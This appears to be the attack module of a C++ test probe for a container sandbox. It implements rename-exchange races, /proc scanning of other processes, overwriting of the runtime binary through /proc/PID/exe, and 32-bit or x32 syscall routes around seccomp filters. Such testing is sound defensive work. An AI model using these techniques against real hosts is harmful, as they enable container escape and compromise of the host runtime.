// What a hostile container does: acts that go on until they are killed, and calls that no libc
// makes.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/fs.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <vector>

#include "probe.h"

namespace probe {
namespace {

std::pair<std::string, std::string> Split(const std::string& text, char separator = ',') {
  const auto at = text.find(separator);
  if (at == std::string::npos) return {text, ""};
  return {text.substr(0, at), text.substr(at + 1)};
}

// exchange=A,B: the two names swap what they name, as fast as the kernel can.
[[noreturn]] void Exchange(const std::string& argument) {
  const auto [first, second] = Split(argument);
  std::printf("{\"exchange\": \"%s\"}\n",
              ErrnoName(syscall(SYS_renameat2, AT_FDCWD, first.c_str(), AT_FDCWD, second.c_str(),
                                RENAME_EXCHANGE) == 0
                            ? 0
                            : errno)
                  .c_str());
  std::fflush(stdout);
  for (;;)
    syscall(SYS_renameat2, AT_FDCWD, first.c_str(), AT_FDCWD, second.c_str(), RENAME_EXCHANGE);
}

// What of another process can be had, told once per kind and victim.
class Hunter {
 public:
  explicit Hunter(const std::string& secret) : secret_(secret) {}

  void Look(int pid) {
    const std::string base = "/proc/" + std::to_string(pid);
    TryOpen(base + "/root" + secret_, O_RDONLY, "root", pid);
    TryOpen(base + "/exe", O_WRONLY, "exe-writable", pid);
    LookAtDescriptors(base, pid);
    LookAtMemory(base, pid);
  }

 private:
  void Tell(const char* what, int pid, const std::string& detail) {
    if (!told_.insert({what, pid}).second) return;
    std::printf("{\"found-%s-%d\": %s}\n", what, pid, Quote(detail).c_str());
    std::fflush(stdout);
  }

  void TryOpen(const std::string& path, int flags, const char* what, int pid) {
    const int fd = open(path.c_str(), flags | O_CLOEXEC | O_NONBLOCK);
    if (fd < 0) return;
    Tell(what, pid, path);
    close(fd);
  }

  // A guest has its standard streams alone, and opens nothing.
  void LookAtDescriptors(const std::string& base, int pid) {
    for (int fd = 3; fd < 12; ++fd) {
      char target[PATH_MAX] = "";
      const std::string path = base + "/fd/" + std::to_string(fd);
      if (readlink(path.c_str(), target, sizeof target - 1) > 0) Tell("fd", pid, target);
    }
  }

  // The program we know is ours to read; another one is the runtime.
  void LookAtMemory(const std::string& base, int pid) {
    char target[PATH_MAX] = "";
    if (readlink((base + "/exe").c_str(), target, sizeof target - 1) <= 0) return;
    if (std::strcmp(target, "/probe") != 0) Tell("exe", pid, target);
  }

  const std::string secret_;
  std::set<std::pair<std::string, int>> told_;
};

// hunt=SECRET: looks into every process that comes, through all that /proc shows of it.
[[noreturn]] void Hunt(const std::string& secret) {
  Hunter hunter(secret);
  std::printf("{\"hunting\": true}\n");
  std::fflush(stdout);
  for (int newest = getpid();;) {
    for (int pid = newest + 1; pid < newest + 6; ++pid) {
      if (kill(pid, 0) != 0 && errno == ESRCH) continue;
      for (int i = 0; i < 200 && kill(pid, 0) == 0; ++i) hunter.Look(pid);
      newest = pid;
    }
  }
}

// overwrite=: gets hold of the program of every process, and writes to it as soon as that goes: the
// kernel refuses while it is executed.
class Overwriter {
 public:
  void Look(const std::string& pid) {
    const std::string path = "/proc/" + pid + "/exe";
    char target[PATH_MAX] = "";
    const ssize_t size = readlink(path.c_str(), target, sizeof target - 1);
    if (size <= 0 || std::strcmp(target, "/probe") == 0) return;
    const int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) return;
    Tell("held", target);
    if (held_.size() == kMost) {
      close(held_.front());
      held_.erase(held_.begin());
    }
    held_.push_back(fd);
  }

  void Write() {
    for (const int fd : held_) {
      const int again = open(("/proc/self/fd/" + std::to_string(fd)).c_str(), O_WRONLY | O_CLOEXEC);
      if (again < 0) continue;
      (void)!write(again, "#!/overwritten\n", 15);
      close(again);
      Tell("written", std::to_string(fd));
    }
  }

 private:
  static constexpr size_t kMost = 16;

  void Tell(const char* what, const std::string& detail) {
    if (!told_.insert({what, 0}).second) return;
    std::printf("{\"%s\": %s}\n", what, Quote(detail).c_str());
    std::fflush(stdout);
  }

  std::vector<int> held_;
  std::set<std::pair<std::string, int>> told_;
};

[[noreturn]] void Overwrite() {
  std::printf("{\"overwriting\": true}\n");
  std::fflush(stdout);
  for (Overwriter overwriter;;) {
    DIR* proc = opendir("/proc");
    if (proc == nullptr) _exit(1);
    while (const dirent* entry = readdir(proc)) {
      if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9') overwriter.Look(entry->d_name);
    }
    closedir(proc);
    overwriter.Write();
  }
}

// A system call by the 32-bit gate, whose numbers are i386's.
long Gate32(long number, long first, long second) {
  long result = 0;
  asm volatile("int $0x80"
               : "=a"(result)
               : "a"(number), "b"(first), "c"(second), "d"(0L)
               : "memory");
  return result;
}

std::string Result(long result) { return Quote(ErrnoName(result < 0 ? errno : 0)); }

// i386=NUMBER or NUMBER:FIRST, of type SOCK_SEQPACKET where that makes a socket; i386=socket:FAMILY
// for socketcall(2), which hides socket(2) from argument filters.
std::string Int80(const std::string& argument) {
  const auto [name, family] = Split(argument, ':');
  long result = -1;
  if (name == "socket") {
    // Below 4 GiB, for a pointer of 32 bits.
    auto* words = static_cast<int*>(mmap(nullptr, 4096, PROT_READ | PROT_WRITE,
                                         MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0));
    if (words == MAP_FAILED) return Quote("no memory");
    words[0] = std::atoi(family.c_str());
    words[1] = SOCK_SEQPACKET;
    words[2] = 0;
    result = Gate32(102, 1, static_cast<long>(reinterpret_cast<uintptr_t>(words)));
  } else {
    result = Gate32(std::atol(name.c_str()), std::atol(family.c_str()), SOCK_SEQPACKET);
  }
  errno = result < 0 ? static_cast<int>(-result) : 0;
  return Result(result);
}

// x32=NUMBER: with the bit that makes it a call of the x32 ABI.
std::string X32(const std::string& argument) {
  constexpr long kX32Bit = 0x40000000;
  return Result(syscall(kX32Bit | std::atol(argument.c_str())));
}

// socket=FAMILY
std::string Socket(const std::string& argument) {
  const int fd = socket(std::atoi(argument.c_str()), SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
  const std::string result = Result(fd);
  if (fd >= 0) close(fd);
  return result;
}

// clone=FLAGS: a child that ends at once.
std::string Clone(const std::string& argument) {
  const unsigned long flags = std::strtoul(argument.c_str(), nullptr, 0);
  const long pid = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) _exit(0);
  const std::string result = Result(pid);
  if (pid > 0) waitpid(static_cast<pid_t>(pid), nullptr, 0);
  return result;
}

}  // namespace

std::string AttackFact(const std::string& name, const std::string& argument) {
  if (name == "i386") return Int80(argument);
  if (name == "x32") return X32(argument);
  if (name == "socket") return Socket(argument);
  if (name == "clone") return Clone(argument);
  if (name == "number") return Result(syscall(std::atol(argument.c_str()), 0, 0, 0, 0, 0, 0));
  return "";
}

bool Attack(const std::string& name, const std::string& argument) {
  if (name == "exchange") Exchange(argument);
  if (name == "hunt") Hunt(argument);
  if (name == "overwrite") Overwrite();
  return false;
}

}  // namespace probe
